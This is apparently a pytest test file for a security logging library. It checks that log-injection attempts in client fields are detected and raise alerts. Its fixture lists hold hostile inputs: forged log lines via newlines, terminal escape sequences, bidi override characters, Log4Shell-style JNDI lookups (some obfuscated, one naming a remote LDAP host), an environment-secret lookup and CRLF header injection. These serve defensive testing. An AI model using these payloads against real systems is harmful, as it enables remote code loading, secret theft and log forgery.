"""Log injection is known to the rules, and costs no line."""

from __future__ import annotations

from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import seclog_handlers as pack
from seclog_handlers.enrichment.injection import CLIENT_FIELDS, injected
from tests.support import KEY, Lines, record

POLICY: dict[str, Any] = {"pseudonyms.keys": [KEY], "geoip": "off", "service": "test"}
RULE = {"name": "injection", "severity": "HIGH", "where": {"event_type": "security_log_injection_attempt"},
        "by": ["ip_address"], "count": 2, "within": 60}  # fmt: skip
EVENT = {"event_type": "authentication", "success": False, "ip_address": "203.0.113.7"}

ATTACKS = [
    "bob\n2026-01-01 INFO admin logged in",
    "bob\rroot",
    "bob\x1b[2K\x1b[1A",
    "bob\x9b2J",
    "bob\x00",
    "bob\x85next",
    "bob\u2028next",
    "b\u202enimda",
    "\u2066bob",
    "${jndi:ldap://203.0.113.9/a}",
    "${${lower:j}ndi:ldap://x}",
    "${${::-j}${::-n}${::-d}${::-i}:ldap://x}",
    "${ env:SECRET}",
]
ENCODED = ["/a%0d%0aSet-Cookie:x", "/%0Aroot", "/%1b[2J", "/%00", "/%24%7bjndi:ldap://x%7d", "/%e2%80%ae", "/%C2%9b2J"]
HARMLESS = [
    "bob", "Bob O'Neil", "Jürgen", "王小明", "bob\n", " bob\t", "a\tb", "100%", "${USER}", "{name}", "a\u200db", "\xa0x",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0 Safari/537.36",
    "/search?q=50%25&x=%20y%C3%BC", "/a/{id}", "", "👩‍💻",
]  # fmt: skip


@pytest.mark.parametrize("text", ATTACKS)
@pytest.mark.parametrize("field", ["username", "user_agent", "path", "request_id", "failure_reason", "ip_address"])
def test_finds_signs_in_a_clients_field(field: str, text: str) -> None:
    """Control characters, terminal sequences, bidirectional marks and look-ups are named by their field."""
    assert injected({"event_type": "authentication", field: text}) == [field]


@pytest.mark.parametrize("text", ENCODED)
def test_finds_what_a_url_encodes(text: str) -> None:
    """A path is logged as it came: percent-encoded signs count there, and only there."""
    assert injected({"path": text, "username": text.replace("$", "")}) == ["path"]


@pytest.mark.parametrize("text", HARMLESS)
@pytest.mark.parametrize("field", ["username", "user_agent", "path"])
def test_leaves_ordinary_text_alone(field: str, text: str) -> None:
    """Names of all scripts, white space at the ends, emoji, percent signs and templates are no attack."""
    assert injected({field: text}) == []


@pytest.mark.parametrize(
    "value",
    [
        {"q": "a\nb"},
        {"q": ["x", "a\nb"]},
        {"a\nb": 1},
        {"n": 1, "q": "a\nb"},
        {str(n): "x" for n in range(300)} | {"q": 1},
    ],
)
def test_looks_into_containers(value: dict[str, Any]) -> None:
    """Keys, values and lists of query parameters and headers are looked at, so many of them."""
    assert injected({"query_params": value, "headers": value}) == (
        ["headers", "query_params"] if len(value) < 200 else []
    )


@settings(deadline=None, suppress_health_check=[HealthCheck.too_slow])  # the first text of a fresh clone
@given(st.dictionaries(st.sampled_from(sorted(CLIENT_FIELDS)), st.one_of(
    st.text(), st.none(), st.integers(), st.binary(), st.lists(st.text()),
    st.dictionaries(st.one_of(st.text(), st.integers()), st.one_of(st.text(), st.lists(st.text()), st.none())),
)))  # fmt: skip
def test_names_fields_of_the_event_only(fields: dict[str, Any]) -> None:
    """Whatever the fields hold, the answer is a sorted list of their names, and nothing raises."""
    found = injected(fields)

    assert found == sorted(set(found))
    assert set(found) <= set(fields)


def handled(*records: Any, rules: Any = (RULE,), **policy: Any) -> tuple[Lines, Lines]:
    out, alerts = Lines(), Lines()
    escalate = pack.EscalationHandler(target=alerts, rules=list(rules), policy=POLICY)
    handler = pack.SecurityHandler(target=out, targets=[escalate], policy={**POLICY, **policy})
    for made in records:
        handler.handle(made)
    return out, alerts


def test_the_line_names_the_fields() -> None:
    """The event's own line carries `log_injection`; one log call is still one line."""
    out, _ = handled(record("login", username="bob\nroot", user_agent="x\x1b[2J", **EVENT))

    (line,) = out.lines
    assert line["log_injection"] == ["user_agent", "username"]
    assert len(out.text.splitlines()) == 1


def test_rules_see_an_event_of_its_own() -> None:
    """Two attempts of one address are an alert of a rule about security_log_injection_attempt."""
    attack = {**EVENT, "username": "bob\nroot"}

    _, alerts = handled(*(record("login", **attack) for _ in range(2)))

    (alert,) = alerts.lines
    assert (alert["rule"], alert["count"]) == ("injection", 2)
    assert alert["group"] == {"ip_address": "203.0.113.7"}
    assert "bob" not in alerts.text


def test_rules_can_group_by_the_user() -> None:
    """The event carries the user's token and its stable key, as the record does."""
    rule = {**RULE, "by": ["username"]}
    attack = {**EVENT, "username": "bob", "user_agent": "x\nroot"}

    out, alerts = handled(*(record("login", **attack) for _ in range(2)), rules=[rule])

    assert alerts.lines[0]["group"] == {"username": out.lines[0]["username"]}


@pytest.mark.parametrize("made", [
    record("line one\nline two", note="a\nb"),
    record("x\x1b[2J"),
    record("login", username="bob\nroot"),
    record("a", **EVENT, note="a\nb", details={"text": "a\nb"}),
])  # fmt: skip
def test_only_events_and_only_fields_of_the_client_count(made: Any) -> None:
    """A message of two lines, a field of the application's and a record that is no event are no attempt."""
    out, _ = handled(made)

    assert "log_injection" not in out.lines[0]


def test_the_application_cannot_claim_it() -> None:
    """A field of that name from the application is kept aside, and makes no event."""
    out, alerts = handled(*(record("a", **EVENT, log_injection=["username"]) for _ in range(3)))

    assert out.lines[0]["extra.log_injection"] == ["username"]
    assert alerts.lines == []


def test_an_attempt_that_the_application_logs_counts_once() -> None:
    """The application's own security_log_injection_attempt is not doubled by the sign that it quotes."""
    _, alerts = handled(record("a", event_type="security_log_injection_attempt", ip_address="203.0.113.7", path="a\nb"))

    assert alerts.lines == []


@pytest.mark.parametrize("mode", ["redact", "off"])
def test_nothing_is_looked_for_when_nothing_is_judged(mode: str) -> None:
    """The modes redact and off add nothing to a line."""
    out, alerts = handled(*(record("a", username="a\nb", **EVENT) for _ in range(3)), mode=mode)

    assert "log_injection" not in out.lines[0]
    assert alerts.lines == []
